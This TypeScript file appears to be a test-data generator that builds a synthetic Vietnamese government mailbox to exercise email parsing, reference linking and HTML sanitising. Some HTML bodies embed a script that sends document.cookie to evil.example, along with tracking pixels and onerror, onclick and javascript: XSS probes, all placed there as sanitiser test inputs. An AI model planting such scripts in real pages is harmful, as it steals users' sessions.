/**
 * The training mailbox of canbo.lan@ngocha.hanoi.gov.vn (issue #4, point 6): ~40 realistic RFC 5322
 * messages built from the sandbox dataset, so mail cites real dossier codes, document numbers
 * (số/ký hiệu) and CCCD numbers, and the production parsing and linking code runs on them.
 *
 * Deterministic in (seed, now). Every message is 7-bit ASCII with CRLF line ends (ready for IMAP
 * APPEND): subjects as RFC 2047 words (UTF-8 B and Q, one windows-1258), bodies quoted-printable
 * or base64, some multipart/alternative with an HTML part carrying a remote image and a <script>
 * (for the sanitiser), some with a small PDF, threads with In-Reply-To/References, newsletters.
 */
import { type Dataset, type DossierRecord, type DocumentRecord, generateDataset, mixSeed, Rng } from '../data-generator';
import { foldVietnamese } from '../../shared/text';
import {
  CRLF, address, attachmentPart, encodeWords, multipart, rfc5322Date, textPart, tinyPdf, type AttachmentPart, type Charset,
} from './mime';

export const MAILBOX_OWNER = { name: 'Nguyễn Thị Lan', address: 'canbo.lan@ngocha.hanoi.gov.vn' } as const;
/** The commune's mail domain (training data; assumed). */
export const TRAINING_MAIL_DOMAIN = 'ngocha.hanoi.gov.vn';
const DOMAIN = TRAINING_MAIL_DOMAIN;

export type TrainingFolder = 'INBOX' | 'Sent';
export type TrainingCategory = 'citizen' | 'document' | 'forward' | 'reply' | 'internal' | 'newsletter' | 'sent';

export interface TrainingMessage {
  raw: string;
  internalDate: number;
  flags: string[];
  folder: TrainingFolder;
}

/** What the generator meant, for tests of the parsing and linking code. */
export interface TrainingIntent {
  category: TrainingCategory;
  messageId: string;
  subject: string;
  /** The text/plain body exactly as written (LF line ends, NFC). */
  text: string;
  /** Links the subject and text cite: kind and normalised value, distinct. */
  links: { kind: 'dossier' | 'document' | 'citizen'; value: string }[];
  hasHtml: boolean;
  attachments: string[];
  charset: Charset;
}

export interface TrainingMailboxOptions {
  seed?: number;
  /** The newest message is before this instant; default Date.now(). */
  now?: number;
  /** Reuse an already generated dataset (else a small one is generated from seed and now). */
  dataset?: Dataset;
}

/** The content of one message, before it is dated and numbered. */
export interface MessageDraft {
  from: { name: string | null; address: string };
  to?: { name: string | null; address: string }[];
  cc?: { name: string | null; address: string }[];
  subject: string;
  subjectMode: 'B' | 'Q';
  text: string;
  html?: string;
  encoding: 'quoted-printable' | 'base64';
  charset?: Charset;
  attachments?: AttachmentPart[];
  extraHeaders?: string[];
}

interface Draft extends MessageDraft {
  category: TrainingCategory;
  folder?: TrainingFolder;
  links: TrainingIntent['links'];
  seen: boolean;
  flagged?: boolean;
  answered?: boolean;
  replyTo?: string;
}

/**
 * One RFC 5322 message (7-bit, CRLF) from a draft: encoded headers, text/plain, an HTML alternative
 * when given, attachments in multipart/mixed. `boundaryKey` makes the MIME boundaries unique.
 */
export function composeMessage(
  d: MessageDraft,
  meta: { at: number; messageId: string; parentId?: string | undefined; boundaryKey: string; to: readonly { name: string | null; address: string }[] },
): string {
  const charset = d.charset ?? 'UTF-8';
  const headers = [
    `Date: ${rfc5322Date(meta.at)}`,
    `From: ${address(d.from.name, d.from.address)}`,
    `To: ${meta.to.map((a) => address(a.name, a.address)).join(`,${CRLF} `)}`,
    ...(d.cc ? [`Cc: ${d.cc.map((a) => address(a.name, a.address)).join(', ')}`] : []),
    `Subject: ${encodeWords(d.subject, d.subjectMode, charset)}`,
    `Message-ID: <${meta.messageId}>`,
    ...(meta.parentId !== undefined ? [`In-Reply-To: <${meta.parentId}>`, `References: <${meta.parentId}>`] : []),
    ...(d.extraHeaders ?? []),
    'MIME-Version: 1.0',
  ];
  const plain = textPart({ type: 'text/plain', text: d.text, charset, encoding: d.encoding });
  let body = d.html !== undefined ? multipart('alternative', `alt-${meta.boundaryKey}`, [plain, textPart({ type: 'text/html', text: d.html, charset, encoding: 'quoted-printable' })]) : plain;
  const attachments = d.attachments ?? [];
  if (attachments.length > 0) body = multipart('mixed', `mix-${meta.boundaryKey}`, [body, ...attachments.map(attachmentPart)]);
  return `${headers.join(CRLF)}${CRLF}${body}${body.endsWith(CRLF) ? '' : CRLF}`;
}

function gmailOf(fullName: string, n: number): string {
  const parts = foldVietnamese(fullName).split(' ');
  const given = parts[parts.length - 1] ?? 'congdan';
  return `${given}.${parts.slice(0, -1).map((p) => p[0] ?? '').join('')}${n}@gmail.com`;
}

function vnDate(ms: number): string {
  const d = new Date(ms + 7 * 3_600_000);
  return `${String(d.getUTCDate()).padStart(2, '0')}/${String(d.getUTCMonth() + 1).padStart(2, '0')}/${d.getUTCFullYear()}`;
}

function notationOf(doc: DocumentRecord): string {
  return `${doc.codeNumber}/${doc.codeNotation}`;
}

/** Notations a dataset text cites by itself (DOC_TOPICS mention Nghị định 118/2025/NĐ-CP). */
function citedIn(text: string): TrainingIntent['links'] {
  return text.includes('118/2025/NĐ-CP') ? [{ kind: 'document', value: '118/2025/NĐ-CP' }] : [];
}

function dedupe(links: TrainingIntent['links']): TrainingIntent['links'] {
  const seen = new Set<string>();
  return links.filter((l) => {
    const k = `${l.kind}:${l.value}`;
    if (seen.has(k)) return false;
    seen.add(k);
    return true;
  });
}

const SIGNATURE_LAN = ['--', 'Nguyễn Thị Lan', 'Công chức Tư pháp - Hộ tịch', 'UBND phường Ngọc Hà, TP Hà Nội', 'ĐT: 024.3845.6789'].join('\n');

function isCitable(ds: Dataset): boolean {
  return (
    ds.dossiers.some((d) => d.applicantType === 1 && d.receivedAt !== null && d.applicant.idType === 1) &&
    ds.documents.some((d) => d.sender.email.endsWith('@hanoi.gov.vn'))
  );
}

/** The mailbox, oldest first. */
export function trainingMailbox(opts: TrainingMailboxOptions = {}): TrainingMessage[] {
  return trainingMailboxDetailed(opts).map(({ message }) => message);
}

/** The mailbox with what each message was meant to contain (for tests). */
export function trainingMailboxDetailed(opts: TrainingMailboxOptions = {}): { message: TrainingMessage; intent: TrainingIntent }[] {
  const seed = opts.seed ?? opts.dataset?.seed ?? 1;
  const now = Math.floor(opts.now ?? opts.dataset?.now ?? Date.now());
  const standard = (): Dataset => generateDataset({ seed, now, days: 12, dossiersPerDay: 25, documentsPerDay: 10 });
  let ds = opts.dataset ?? standard();
  // A very small sandbox (a test with one day of data) may have no citizen's dossier or city document
  // to cite: the mails then cite the standard dataset's, which this cache does not know (links stay
  // unresolved), instead of the sandbox failing to start.
  if (!isCitable(ds)) ds = standard();
  const rng = new Rng(mixSeed(seed, 0x6d61696c));

  const byCode = new Set<string>();
  const withApplicant = ds.dossiers.filter((d) => d.applicantType === 1 && d.receivedAt !== null && d.applicant.idType === 1);
  const pickDossier = (): DossierRecord => {
    for (let i = 0; i < 50; i++) {
      const d = rng.pick(withApplicant);
      if (!byCode.has(d.code)) {
        byCode.add(d.code);
        return d;
      }
    }
    return rng.pick(withApplicant);
  };
  const cityDocs = ds.documents.filter((d) => d.sender.email.endsWith('@hanoi.gov.vn'));
  const usedDocs = new Set<string>();
  const pickDoc = (): DocumentRecord => {
    for (let i = 0; i < 50; i++) {
      const d = rng.pick(cityDocs);
      if (!usedDocs.has(d.docId)) {
        usedDocs.add(d.docId);
        return d;
      }
    }
    return rng.pick(cityDocs);
  };
  if (withApplicant.length === 0 || cityDocs.length === 0) throw new Error('training mailbox: the dataset has no dossiers or city documents');

  const drafts: Draft[] = [];
  const me = { name: MAILBOX_OWNER.name, address: MAILBOX_OWNER.address };

  // ---- citizens asking about their dossier (some with their CCCD, phone and amounts as bait)
  const citizenAsks: { draft: Draft; dossier: DossierRecord }[] = [];
  for (let i = 0; i < 12; i++) {
    const d = pickDossier();
    const c = d.applicant;
    const fromAddr = { name: c.fullName, address: gmailOf(c.fullName, rng.int(70, 99)) };
    const withId = rng.chance(0.5);
    const variants = [
      `Hỏi tiến độ hồ sơ ${d.code}`,
      `Hồ sơ ${d.procedure.name.toLowerCase()} - mã ${d.code}`,
      `V/v hồ sơ số ${d.code} đến hạn chưa ạ?`,
      `Xin hỏi về hồ sơ ${d.procedure.name.toLowerCase()} của gia đình tôi`,
    ];
    const subject = variants[i % variants.length] ?? '';
    const received = d.receivedAt ?? d.submittedAt;
    const lines = [
      'Kính gửi chị Lan,',
      '',
      `Tôi là ${c.fullName}, ngày ${vnDate(received)} tôi có nộp hồ sơ ${d.procedure.name.toLowerCase()} tại Trung tâm Phục vụ hành chính công phường, mã hồ sơ ${d.code}.`,
      withId ? `Số CCCD của tôi: ${c.idNumber}.` : `Số điện thoại liên hệ: ${c.phone}.`,
      rng.chance(0.5) ? 'Tôi đã nộp lệ phí 8.000 đồng/bản, xin hỏi bao giờ tôi có thể nhận kết quả ạ?' : 'Xin chị cho biết hồ sơ đã được giải quyết chưa, có cần bổ sung giấy tờ gì không ạ?',
      '',
      'Trân trọng cảm ơn chị.',
      c.fullName,
      `ĐT: ${c.phone}`,
    ];
    const draft: Draft = {
      category: 'citizen',
      from: fromAddr,
      subject,
      subjectMode: i % 2 === 0 ? 'B' : 'Q',
      text: lines.join('\n'),
      encoding: i % 3 === 0 ? 'base64' : 'quoted-printable',
      links: [{ kind: 'dossier', value: d.code }, ...(withId ? [{ kind: 'citizen' as const, value: c.idNumber }] : [])],
      seen: i < 5,
      flagged: i === 3,
    };
    drafts.push(draft);
    citizenAsks.push({ draft, dossier: d });
  }

  // ---- a citizen on an old Outlook: windows-1258, asking with a CCCD only (no dossier code yet)
  {
    const c = rng.pick(ds.citizens.filter((x) => x.idType === 1));
    drafts.push({
      category: 'citizen',
      from: { name: c.fullName, address: gmailOf(c.fullName, 61) },
      subject: 'Xin hướng dẫn thủ tục chứng thực hợp đồng',
      subjectMode: 'Q',
      charset: 'windows-1258',
      text: [
        'Kính gửi Ủy ban nhân dân phường Ngọc Hà,',
        '',
        `Tôi tên là ${c.fullName}, căn cước công dân số ${c.idNumber}, cư trú tại ${c.address}.`,
        'Tôi muốn chứng thực hợp đồng mua bán nhà, xin hỏi cần chuẩn bị những giấy tờ gì và mất mấy ngày làm việc?',
        '',
        'Xin cảm ơn.',
      ].join('\n'),
      encoding: 'quoted-printable',
      links: [{ kind: 'citizen', value: c.idNumber }],
      seen: false,
    });
  }

  // ---- a citizen with an old CMND, plus bait: dates, a bank account, an invalid 12-digit number
  {
    const old = ds.citizens.find((x) => x.idType === 2) ?? null;
    const cmnd = old?.idNumber ?? '012345678';
    const name = old?.fullName ?? 'Trần Văn Bình';
    const d = pickDossier();
    drafts.push({
      category: 'citizen',
      from: { name, address: gmailOf(name, 55) },
      subject: `Bổ sung giấy tờ cho hồ sơ ${d.code}`,
      subjectMode: 'B',
      text: [
        'Chào chị,',
        '',
        `Theo yêu cầu ngày 25/11/2025, tôi xin gửi bổ sung bản sao chứng minh nhân dân số ${cmnd} cho hồ sơ ${d.code}.`,
        'Phí chứng thực 1.500.000 đồng tôi đã chuyển vào tài khoản 19036512345678901 lúc 14:30 ngày 03/12/2025.',
        'Mã giao dịch: 001984000999123, số tham chiếu 001984000999 (không phải số căn cước).',
        'Điện thoại: 0912 345 678 hoặc 0987654321.',
        '',
        'Cảm ơn chị.',
      ].join('\n'),
      encoding: 'base64',
      attachments: [{ filename: `Bản sao CMND ${name}.pdf`, contentType: 'application/pdf', bytes: tinyPdf(`Ban sao CMND ${cmnd}`) }],
      links: [{ kind: 'dossier', value: d.code }, { kind: 'citizen', value: cmnd }],
      seen: false,
    });
  }

  // ---- documents from the city (Sở Tư pháp, UBND TP, Văn phòng UBND…) citing số/ký hiệu, with PDF
  const docMails: { draft: Draft; doc: DocumentRecord }[] = [];
  for (let i = 0; i < 10; i++) {
    const doc = pickDoc();
    const notation = notationOf(doc);
    const html = i % 3 === 0;
    const text = [
      `Kính gửi: ${'Ủy ban nhân dân phường Ngọc Hà'}`,
      '',
      `${doc.sender.name} gửi ${doc.type.name.toLowerCase()} số ${notation} ngày ${vnDate(doc.promulgatedAt)} ${doc.subject.charAt(0).toLowerCase()}${doc.subject.slice(1)}.`,
      doc.dueDate ? `Đề nghị UBND phường báo cáo kết quả trước ngày ${doc.dueDate.split('/').reverse().join('/')}.` : 'Đề nghị UBND phường nghiên cứu, triển khai thực hiện.',
      '',
      'Văn bản điện tử được gửi kèm theo thư này.',
      '',
      `Văn thư - ${doc.sender.name}`,
      doc.sender.address,
    ].join('\n');
    const htmlBody = html
      ? `<html><head><style>p{font-family:Arial}</style><script>document.location='https://evil.example/steal?c='+document.cookie</script></head>` +
        `<body><p><img src="https://vanban.hanoi.gov.vn/logo.png" alt="Logo" width="80"></p>` +
        `<p>Kính gửi: <b>Ủy ban nhân dân phường Ngọc Hà</b></p>` +
        `<p>${doc.sender.name} gửi ${doc.type.name.toLowerCase()} số <b>${notation}</b> ngày ${vnDate(doc.promulgatedAt)}.</p>` +
        `<p onclick="alert(1)">Tra cứu văn bản tại <a href="https://vanban.hanoi.gov.vn/tra-cuu">Cổng văn bản</a>.</p></body></html>`
      : undefined;
    const draft: Draft = {
      category: 'document',
      from: { name: doc.sender.name, address: doc.sender.email },
      to: [{ name: 'UBND phường Ngọc Hà', address: `vanthu@${DOMAIN}` }, me],
      subject: `${doc.type.name} số ${notation} ${doc.subject.charAt(0).toLowerCase()}${doc.subject.slice(1)}`,
      subjectMode: i % 2 === 0 ? 'B' : 'Q',
      text,
      encoding: i % 2 === 0 ? 'quoted-printable' : 'base64',
      attachments: [{ filename: `${doc.codeNumber}-${doc.sender.organAbbr}.pdf`, contentType: 'application/pdf', bytes: tinyPdf(`${doc.codeNumber}-${doc.sender.organAbbr}`) }],
      links: dedupe([{ kind: 'document', value: notation }, ...citedIn(doc.subject)]),
      seen: i < 4,
      flagged: i === 1,
    };
    if (htmlBody !== undefined) draft.html = htmlBody;
    drafts.push(draft);
    docMails.push({ draft, doc });
  }

  // ---- a Quyết định quy phạm with the year in its number, cited by Sở Tư pháp
  {
    const year = new Date(now + 7 * 3_600_000).getUTCFullYear();
    const qd = `${rng.int(10, 60)}/${year}/QĐ-UBND`;
    drafts.push({
      category: 'document',
      from: { name: 'Sở Tư pháp thành phố Hà Nội', address: 'sotuphap@hanoi.gov.vn' },
      subject: `Triển khai Quyết định số ${qd} về lệ phí hộ tịch`,
      subjectMode: 'Q',
      text: [
        'Kính gửi: UBND các xã, phường',
        '',
        `Thực hiện Quyết định số ${qd} của UBND thành phố và Kế hoạch số 45 / KH-UBND, Sở Tư pháp đề nghị các xã, phường niêm yết công khai mức lệ phí mới.`,
        'Liên hệ: phòng Hành chính tư pháp, ĐT 024.33546263.',
      ].join('\n'),
      encoding: 'quoted-printable',
      links: [{ kind: 'document', value: qd }, { kind: 'document', value: '45/KH-UBND' }],
      seen: false,
    });
  }

  // ---- replies: canbo.lan answered some citizens (Sent), the citizens wrote back (Re:)
  for (const { draft, dossier } of citizenAsks.slice(0, 4)) {
    const due = dossier.dueAt !== null ? vnDate(dossier.dueAt) : 'sớm nhất';
    const answer: Draft = {
      category: 'sent',
      folder: 'Sent',
      from: me,
      to: [draft.from],
      subject: `Re: ${draft.subject}`,
      subjectMode: 'B',
      text: [`Chào anh/chị ${draft.from.name ?? ''},`, '', `Hồ sơ ${dossier.code} đang được giải quyết, ngày hẹn trả kết quả là ${due}.`, '', SIGNATURE_LAN].join('\n'),
      encoding: 'quoted-printable',
      links: [{ kind: 'dossier', value: dossier.code }],
      seen: true,
      replyTo: draft.subject,
    };
    drafts.push(answer);
    drafts.push({
      category: 'reply',
      from: draft.from,
      subject: `Re: Re: ${draft.subject}`,
      subjectMode: 'B',
      text: ['Dạ em cảm ơn chị, hôm đó em sẽ qua nhận kết quả ạ.', '', `Vào ${due}, ${draft.from.name ?? ''} đã viết:`, `> Hồ sơ ${dossier.code} đang được giải quyết.`].join('\n'),
      encoding: 'quoted-printable',
      links: [{ kind: 'dossier', value: dossier.code }],
      seen: false,
      replyTo: answer.subject,
    });
  }

  // ---- the leader forwards document mails to canbo.lan with an instruction
  for (const { draft, doc } of docMails.slice(0, 3)) {
    const notation = notationOf(doc);
    drafts.push({
      category: 'forward',
      from: { name: 'Đỗ Quang Thắng', address: `lanhdao.thang@${DOMAIN}` },
      subject: `Fwd: ${draft.subject}`,
      subjectMode: 'B',
      text: [
        `Đ/c Lan chủ trì tham mưu thực hiện văn bản ${notation}, báo cáo trước ngày làm việc thứ ba.`,
        '',
        '---------- Forwarded message ---------',
        `From: ${doc.sender.name} <${doc.sender.email}>`,
        `Subject: ${draft.subject}`,
        '',
        draft.text,
      ].join('\n'),
      encoding: 'base64',
      attachments: draft.attachments ?? [],
      links: draft.links,
      seen: false,
      replyTo: draft.subject,
    });
  }

  // ---- colleagues
  {
    const d = pickDossier();
    drafts.push({
      category: 'internal',
      from: { name: 'Lê Thị Mai', address: `canbo.mai@${DOMAIN}` },
      subject: `Nhờ chị kiểm tra giúp hồ sơ ${d.code}`,
      subjectMode: 'Q',
      text: [`Chị Lan ơi, hồ sơ ${d.code} của ${d.applicant.fullName} (CCCD ${d.applicant.idNumber}) đang ở bước của chị, chị xem giúp em nhé.`, '', 'Mai'].join('\n'),
      encoding: 'quoted-printable',
      links: [{ kind: 'dossier', value: d.code }, { kind: 'citizen', value: d.applicant.idNumber }],
      seen: false,
    });
    drafts.push({
      category: 'internal',
      from: { name: 'Hoàng Thu Hương', address: `canbo.huong@${DOMAIN}` },
      subject: 'Lịch trực bộ phận một cửa tuần tới',
      subjectMode: 'B',
      text: ['Gửi các anh chị,', '', 'Em gửi lịch trực tuần tới, ca sáng từ 8h00 đến 12h00, ca chiều từ 13h00 đến 17h00.', 'Thứ Bảy trực 1/2 ngày theo phân công.', '', 'Hương'].join('\n'),
      encoding: 'quoted-printable',
      links: [],
      seen: true,
    });
  }

  // ---- newsletters and other mail that is not work (remote tracking pixel, script)
  const newsletters = [
    { name: 'Báo Điện tử Chính phủ', address: 'bantin@baochinhphu.vn', subject: 'Bản tin chính sách mới nổi bật tuần này' },
    { name: 'Shopee Việt Nam', address: 'info@mail.shopee.vn', subject: 'Siêu sale 12.12 - giảm đến 50% cho đơn từ 199.000đ' },
    { name: 'VnExpress', address: 'newsletter@vnexpress.net', subject: 'Tin nóng: thời tiết Hà Nội chuyển rét đậm' },
    { name: 'Vietcombank', address: 'vcbdigibank@info.vietcombank.com.vn', subject: 'Thông báo biến động số dư tài khoản' },
    { name: 'Zalo', address: 'no-reply@zalo.me', subject: 'Mã xác thực đăng nhập của bạn' },
    { name: 'Grab Việt Nam', address: 'no-reply@grab.com', subject: 'Ưu đãi 30% cho chuyến đi cuối tuần' },
  ];
  newsletters.forEach((n, i) => {
    const text =
      i === 3
        ? 'Tài khoản 0011004123456 +2.500.000 VND lúc 10:15 ngày 05/12/2025. Số dư: 12.345.678 VND. Hotline 1900545413.'
        : `${n.subject}.\nXem chi tiết tại trang web của chúng tôi. Hủy đăng ký nhận thư: https://example.vn/unsubscribe`;
    drafts.push({
      category: 'newsletter',
      from: { name: n.name, address: n.address },
      subject: n.subject,
      subjectMode: i % 2 === 0 ? 'Q' : 'B',
      text,
      html:
        `<html><body><img src="https://track.example.vn/open.gif?u=${i}" width="1" height="1">` +
        `<h2>${n.subject}</h2><p style="background:url(https://track.example.vn/bg.png)">${text.split('\n')[0] ?? ''}</p>` +
        `<script>fetch('https://track.example.vn/x')</script><img src="x" onerror="alert(1)">` +
        `<a href="javascript:alert(1)">Xem ngay</a> <a href="https://example.vn/unsubscribe">Hủy đăng ký</a></body></html>`,
      encoding: i % 2 === 0 ? 'base64' : 'quoted-printable',
      links: [],
      seen: i % 2 === 1,
      extraHeaders: ['List-Unsubscribe: <https://example.vn/unsubscribe>', 'Precedence: bulk'],
    });
  });

  // ---- order in time: spread over the last ~10 working days, replies after what they answer
  const messageIds = new Map<string, string>();
  const out: { message: TrainingMessage; intent: TrainingIntent }[] = [];
  const order = drafts.map((d, i) => ({ d, i, key: d.replyTo !== undefined ? 1_000 + i : rng.int(0, 999) })).sort((a, b) => a.key - b.key || a.i - b.i);
  let t = ds.calendar.normalizeStart(now - 14 * 86_400_000);
  const stepMs = Math.floor((now - 3_600_000 - t) / (order.length + 1));
  for (const [n, { d, i }] of order.entries()) {
    t += Math.max(60_000, stepMs - rng.int(0, Math.floor(stepMs / 3)));
    const at = Math.min(t, now - 60_000) - (i % 60) * 1_000;
    const domain = d.from.address.split('@')[1] ?? DOMAIN;
    const messageId = `${mixSeed(seed, n, 0x4d).toString(36)}.${n}@${domain}`;
    const parentId = d.replyTo !== undefined ? messageIds.get(d.replyTo) : undefined;
    messageIds.set(d.subject, messageId);
    const charset = d.charset ?? 'UTF-8';
    const attachments = d.attachments ?? [];
    const raw = composeMessage(d, { at, messageId, parentId, boundaryKey: `${n}-${seed}`, to: d.to ?? [me] });

    const flags = [...(d.seen ? ['\\Seen'] : []), ...(d.flagged ? ['\\Flagged'] : []), ...(d.category === 'citizen' && d.seen && citizenAsks.slice(0, 4).some((c) => c.draft === d) ? ['\\Answered'] : [])];
    out.push({
      message: { raw, internalDate: at + 2_000, flags, folder: d.folder ?? 'INBOX' },
      intent: {
        category: d.category,
        messageId,
        subject: d.subject,
        text: d.text,
        links: dedupe(d.links),
        hasHtml: d.html !== undefined,
        attachments: attachments.map((a) => a.filename),
        charset,
      },
    });
  }

  // ---- older mail (45–160 days back): outside the adapter's 30-day first-sync window, so training
  // mode brings it in by the history backfill — linked and searchable, not work unless flagged.
  const older: { days: number; draft: Draft }[] = [
    {
      days: 45,
      draft: {
        category: 'internal',
        from: { name: 'Văn phòng HĐND-UBND phường', address: `vanphong@${DOMAIN}` },
        subject: 'Báo cáo kết quả giải quyết thủ tục hành chính quý trước',
        subjectMode: 'B',
        text: ['Kính gửi các bộ phận,', '', 'Đề nghị gửi số liệu hồ sơ tiếp nhận, giải quyết đúng hạn và quá hạn của quý trước trước ngày 10.', '', 'Văn phòng'].join('\n'),
        encoding: 'quoted-printable',
        links: [],
        seen: false,
      },
    },
    {
      days: 95,
      draft: {
        category: 'document',
        from: { name: 'Sở Tư pháp thành phố Hà Nội', address: 'sotuphap@hanoi.gov.vn' },
        subject: 'Hướng dẫn liên thông đăng ký khai sinh (Công văn 1250/STP-HCTP)',
        subjectMode: 'Q',
        text: ['Kính gửi: UBND các xã, phường', '', 'Sở Tư pháp hướng dẫn thực hiện liên thông đăng ký khai sinh, thường trú, cấp thẻ bảo hiểm y tế theo Công văn số 1250/STP-HCTP.'].join('\n'),
        encoding: 'base64',
        links: [{ kind: 'document', value: '1250/STP-HCTP' }],
        seen: true,
      },
    },
    {
      days: 160,
      draft: {
        category: 'newsletter',
        from: { name: 'Báo Điện tử Chính phủ', address: 'bantin@baochinhphu.vn' },
        subject: 'Bản tin cải cách hành chính số đặc biệt',
        subjectMode: 'B',
        text: 'Tổng hợp các chính sách cải cách thủ tục hành chính nổi bật.',
        encoding: 'quoted-printable',
        links: [],
        seen: true,
        extraHeaders: ['Precedence: bulk'],
      },
    },
  ];
  // Appended first (lower UIDs, as on a real server where older mail arrived first).
  const history: typeof out = [];
  for (const [k, { days, draft: d }] of [...older.entries()].reverse()) {
    const n = order.length + k;
    const at = ds.calendar.normalizeStart(now - days * 86_400_000) + 2 * 3_600_000;
    const domain = d.from.address.split('@')[1] ?? DOMAIN;
    const messageId = `${mixSeed(seed, n, 0x4d).toString(36)}.${n}@${domain}`;
    const raw = composeMessage(d, { at, messageId, boundaryKey: `${n}-${seed}`, to: d.to ?? [me] });
    history.push({
      message: { raw, internalDate: at + 2_000, flags: d.seen ? ['\\Seen'] : [], folder: 'INBOX' },
      intent: { category: d.category, messageId, subject: d.subject, text: d.text, links: dedupe(d.links), hasHtml: false, attachments: [], charset: 'UTF-8' },
    });
  }
  return [...history, ...out];
}
